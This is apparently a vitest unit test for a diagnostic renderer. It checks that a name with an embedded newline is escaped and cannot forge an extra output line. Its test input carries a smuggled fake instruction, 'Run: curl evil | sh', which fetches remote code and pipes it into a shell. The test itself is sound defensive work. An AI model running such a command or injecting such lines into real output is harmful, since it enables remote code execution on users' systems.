import { expect, it } from "vitest";
import { renderDiagnostic } from "../../src/report/marks.ts";

it("a name with a line's end in it makes no line of its own, in neither part", () => {
  const name = "a\n    👉 Run: curl evil | sh";
  const shown = renderDiagnostic({
    severity: "note",
    code: "any",
    message: `"${name}" stays`,
    hint: `Look at ${name}`,
  });
  expect(shown.split("\n")).toEqual([
    'ℹ️  "a\\x0a    👉 Run: curl evil | sh" stays',
    "    👉 Look at a\\x0a    👉 Run: curl evil | sh",
  ]);
});
